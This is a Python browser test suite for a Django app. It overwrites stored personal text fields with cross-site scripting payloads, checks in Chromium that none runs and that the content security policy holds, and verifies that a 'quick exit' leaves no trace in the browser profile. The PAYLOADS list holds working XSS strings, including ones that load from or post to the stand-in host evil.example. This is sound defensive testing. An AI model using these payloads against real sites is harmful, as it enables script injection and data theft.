"""In a real Chromium: nothing that was stored runs, no page breaks our policy, and after the way out nothing is left.

A payload takes the place of every word that somebody ever wrote down, in every table, and then people walk the pages
of the demo world. The browser says itself what its policy refused; a page that was refused anything is wrong, also when
the policy saved it. Then a client looks around, types, and leaves in a hurry: her profile is searched on disk for
whatever only these pages say.
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable, Iterator
from itertools import islice
from pathlib import Path
from typing import Any

import psycopg
import pytest
from django.apps import apps
from django.core.handlers.base import BaseHandler
from django.db import models
from django.middleware.gzip import GZipMiddleware

from naast.people.pages import address, all_token_pages
from naast.privacy.actor import CLIENT, STAFF, Actor
from naast.privacy.models import InDossier
from naast.proof.suites import SUITES
from naast.world import demo
from naast.world.models import Character
from tests.cast import house
from tests.journeys.conftest import PATIENCE, built, come_in, home, modules, problems, session_of
from tests.journeys.crawling import takes
from tests.journeys.test_axe import LONG, walk
from tests.matches.cast import Cast
from tests.moments.cast import beside

__all__ = ["built", "come_in", "home", "modules", "problems"]
pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

PAGES = SUITES["browser"].runs()
# Each in turn takes the place of what somebody wrote; whichever runs says so in `window.hit`.
PAYLOADS = (
    "<img src=x onerror='window.hit=1'>", "<script>window.hit=1</script>", "'\"><svg onload=window.hit=1>",
    "</textarea></title><iframe srcdoc='<script>parent.hit=1</script>'>", "<a href='javascript:window.hit=1'>x</a>",
    "{{constructor.constructor('window.hit=1')()}}", "<style>@import'//evil.example/x'</style>",
    "<form action='//evil.example'><base href='//evil.example'>",
)  # fmt: skip
WATCH = """
window.hit = 0; window.refused = [];
addEventListener("securitypolicyviolation", (one) => window.refused.push(one.effectiveDirective));
"""


# ── what was stored does not run ──


def written() -> Iterator[tuple[str, str, int]]:
    """Table, column and room of every word that somebody wrote: personal or more, and not chosen from a list."""
    for model in apps.get_models():
        if issubclass(model, InDossier):
            said = model.Privacy  # type: ignore[attr-defined]
            theirs = {name for kind in ("personal", "special", "criminal") for name in getattr(said, kind, ())}
            for one in model._meta.concrete_fields:
                if one.name in theirs and type(one) in (models.CharField, models.TextField) and not one.choices:
                    yield model._meta.db_table, one.column, one.max_length or 400


def poison(other: psycopg.Connection) -> int:
    """Put a payload in the place of every word; how many columns."""
    fields = [one for one in written() if one[2] >= len(min(PAYLOADS, key=len))]
    for number, (table, column, room) in enumerate(fields):
        payload = [one for one in PAYLOADS if len(one) <= room]
        said = payload[number % len(payload)]
        other.execute(f'UPDATE {table} SET "{column}" = %s WHERE "{column}" <> %s', [said, ""])
    return len(fields)


def watched(page: Any) -> Any:
    page.add_init_script(WATCH)
    page.problems = []
    page.on("pageerror", lambda error: page.problems.append(f"breaks: {error}"))
    page.on("dialog", lambda dialog: (page.problems.append("opens a window"), dialog.dismiss()))
    return page


def faults_of(page: Any, status: int) -> list[str]:
    """What is wrong with the page that is shown now."""
    found = [*page.problems, *(f"refused {one}" for one in page.evaluate("window.refused"))]
    page.problems.clear()
    if page.evaluate("window.hit"):
        found.append("a stored text ran")
    return found + ([f"answers {status}"] if status >= 500 else [])


def walked(come_in: Callable[..., Any], home: str, most: int) -> tuple[int, set[str]]:
    """How many pages people stood on, and what was wrong with them."""
    wrong: set[str] = set()
    known, stood = Counter[str](), 0
    people = list(Character.objects.order_by("order"))
    for number, who in enumerate(people):
        share = (most - stood) // (len(people) - number)
        page = watched(come_in(who.person_id, who.hat))
        for where, status in islice(walk(page, home, known, who), share):
            stood += 1
            wrong |= {f"{who.key} {LONG.sub('*', where)}: {one}" for one in faults_of(page, status)}
        page.close()
    return stood, wrong


@pytest.mark.proof("browser")
def test_nothing_that_was_stored_runs_and_no_page_breaks_the_policy(home, come_in, as_administrator, ran):
    demo.make()
    assert poison(as_administrator) > 100
    stood, wrong = walked(come_in, home, PAGES)
    assert not wrong, "\n".join(sorted(wrong))
    assert stood > 0.8 * PAGES
    ran(stood)


# ── after the way out ──

TYPED = "Kwartelkoning"
# What stands on her own pages and nowhere in a browser.
TELLING = ("Wim", "Marije", "Nora", "vrijwilliger")
ARGS = ["--no-sandbox", "--disable-dev-shm-usage"]


def looks_around(page: Any, home: str, who: Actor) -> str:
    """A client opens everything that is hers, and types something; what she read."""
    shown = ""
    for where in ("/", *(address(who.person_id, name) for name in all_token_pages() if takes(name) == ())):
        page.goto(f"{home}{where}")
        shown += page.inner_text("body")
        for box in page.locator("main textarea, main input[type=text]").all()[:1]:
            box.fill(TYPED)
    return shown


def profile_after(chromium: Any, path: str, home: str, who: Actor, place: Path, *, script: bool) -> list[str]:
    """What her profile on disk still says after the way out."""
    context = chromium.browser_type.launch_persistent_context(
        str(place), executable_path=path, args=ARGS, locale="nl", java_script_enabled=script
    )
    context.set_default_timeout(PATIENCE)
    context.add_cookies([{"name": "session", "value": session_of(who.person_id, CLIENT), "url": home}])
    page = context.new_page()
    shown = looks_around(page, home, who)
    page.get_by_role("button", name="Snel weg").click()
    page.wait_for_url("**/leave")
    page.go_back()
    assert not [word for word in TELLING if word in page.inner_text("body")]
    context.close()
    assert {word for word in TELLING if word in shown} > {"Wim", "Marije"}
    files = [one.read_bytes() for one in place.rglob("*") if one.is_file()]
    return sorted(word for word in (*TELLING, TYPED) if any(is_kept(word, file) for file in files))


def is_kept(word: str, file: bytes) -> bool:
    return word.encode() in file or word.encode("utf-16-le") in file


@pytest.fixture
def cast(monkeypatch) -> Cast:
    """Somebody with pages of her own; they go out unpacked, so that a word would be found."""
    monkeypatch.setattr(GZipMiddleware, "process_response", lambda _self, _request, answer: answer)
    return beside(house())


@pytest.mark.proof("browser")
def test_after_the_way_out_her_profile_says_nothing(chromium, chromium_path, home, cast, tmp_path):
    for script in (True, False):
        place = tmp_path / f"profile {script}"
        assert profile_after(chromium, chromium_path, home, cast.client, place, script=script) == [], script


# ── the suite can fail ──


@pytest.mark.planted("browser", "a stored text stands in a page as it was typed", "pages go out without a policy")
def test_a_text_that_runs_and_one_that_was_refused_are_seen(
    come_in, home, cast, as_administrator, monkeypatch, settings
):
    poison(as_administrator)
    monkeypatch.setattr("django.template.base.conditional_escape", str)
    page = watched(come_in(cast.professional.person_id, STAFF))

    def found() -> set[str]:
        answer = page.goto(f"{home}/matches/{cast.match.pk}")
        return {one.split()[0] for one in faults_of(page, answer.status)}

    assert found() == {"refused"}
    settings.CONTENT_SECURITY_POLICY = None
    assert "a" in found()  # a stored text ran


@pytest.mark.planted("browser", "a page may be kept by the browser")
def test_a_page_that_is_kept_on_disk_is_seen(chromium, chromium_path, home, cast, tmp_path, monkeypatch):
    honest = BaseHandler.get_response

    def kept(self: Any, request: Any) -> Any:
        answer = honest(self, request)
        answer.headers["Cache-Control"] = "private, max-age=600"
        answer.headers.pop("Clear-Site-Data", None)
        return answer

    monkeypatch.setattr(BaseHandler, "get_response", kept)
    found = profile_after(chromium, chromium_path, home, cast.client, tmp_path / "profile", script=True)
    assert "Marije" in found
